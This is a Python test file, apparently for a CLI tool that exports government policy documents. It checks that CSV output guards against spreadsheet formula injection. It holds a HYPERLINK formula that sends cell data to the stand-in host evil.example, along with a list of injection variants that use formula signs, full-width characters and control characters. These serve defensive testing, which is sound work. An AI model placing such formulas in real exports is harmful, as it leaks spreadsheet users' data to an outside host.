"""No command writes a CSV from which a spreadsheet runs a formula, and all begin with the mark that Excel needs."""

import csv
import io
import shutil
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from storage.database import open_database
from tests.zhengce.holding import hold, invented
from zhengce.cli.program import main
from zhengce.tables import rows
from zhengce.tables.csv_table import guarded, unguarded, write_csv

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"关于数据的通知")'
FORMULAS = (
    FORMULA,
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t通知",
    "\r通知",
    "\n通知",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
)
TEXTS = ("关于数据的通知", "2021-11-16", "2021-11-16T02:30:00Z", "工信部规〔2021〕164号", "a=b", "", "“=”")


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder with a document whose title, number and topic are formulas."""
    folder = tmp_path_factory.mktemp("data")
    database = open_database(f"sqlite:///{folder / 'zhengce.db'}")
    hold(database, invented(title=FORMULA, document_number="-1+1", topic="＝1+1", url="https://www.miit.gov.cn/1.html"))
    database.close()
    return folder


def run(data: Path, *words: str) -> Any:
    """Runs the command in this process; gives the bytes that it printed."""
    printed = io.BytesIO()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sys, "argv", ["zhengce", "--data", str(data), *words])
        patch.setattr(sys, "stdout", io.TextIOWrapper(printed, encoding="utf-8"))
        main()
        sys.stdout.flush()
        return printed.getvalue()


def exported(data: Path) -> bytes:
    run(data, "export", str(data / "all.csv"))
    return (data / "all.csv").read_bytes()


WRITERS: dict[str, Callable[[Path], bytes]] = {
    "list": lambda data: bytes(run(data, "list", "--format", "csv")),
    "search": lambda data: bytes(run(data, "search", "数据", "--format", "csv")),
    "export": exported,
}


@pytest.mark.parametrize("command", WRITERS)
def test_every_csv_begins_with_the_mark_and_holds_no_formula(data: Path, command: str) -> None:
    written = WRITERS[command](data)
    assert written.startswith(b"\xef\xbb\xbf")
    assert not written.startswith(b"\xef\xbb\xbf\xef\xbb\xbf")
    cells = [cell for row in csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")) for cell in row]
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))]
    assert [cell for cell in cells if cell.startswith("'=")]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice (soffice)")
def test_libreoffice_runs_no_cell_and_keeps_every_text(data: Path, tmp_path: Path) -> None:
    names = [f"{command}.csv" for command in WRITERS]
    for name, write in zip(names, WRITERS.values(), strict=True):
        (tmp_path / name).write_bytes(write(data))
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    subprocess.run(
        ["soffice", profile, "--headless", "--convert-to", "xlsx", "--outdir", "out", *names],
        cwd=tmp_path,
        check=True,
        capture_output=True,
    )
    for command in WRITERS:
        sheet = openpyxl.load_workbook(tmp_path / "out" / f"{command}.xlsx").worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink], command
        assert [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith("'=")], command
        assert sheet["B2"].value == f"'{FORMULA}", command
        assert sheet["A2"].value == 1, command


def test_formulas_are_guarded_and_come_back_and_other_texts_stay() -> None:
    assert [guarded(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert [guarded(text) for text in TEXTS] == list(TEXTS)
    assert [unguarded(guarded(text)) for text in (*FORMULAS, *TEXTS)] == [*FORMULAS, *TEXTS]


def test_numbers_truths_and_nothing_are_no_texts() -> None:
    out = io.StringIO()
    assert write_csv([{"a": -1, "b": -0.5, "c": True, "d": None}], ["a", "b", "c", "d"], out) == 1
    assert out.getvalue() == "\ufeffa,b,c,d\n-1,-0.5,true,\n"


def test_a_sign_that_stands_behind_a_control_character_is_guarded_when_that_is_gone() -> None:
    out = io.StringIO()
    rows.write_rows([{"title": "\x1b=1+1"}], ["title"], "csv", out)
    assert out.getvalue() == "\ufefftitle\n'=1+1\n"


def test_rows_of_every_format_write_a_moment_in_utc_to_the_second() -> None:
    moment = datetime(2021, 11, 16, 10, 30, 0, 123456, timezone(timedelta(hours=8)))
    for form in ("csv", "json", "jsonl"):
        out = io.StringIO()
        rows.write_rows([{"at": moment}, {"at": moment.astimezone(UTC)}], ["at"], form, out)
        assert out.getvalue().count("2021-11-16T02:30:00Z") == 2
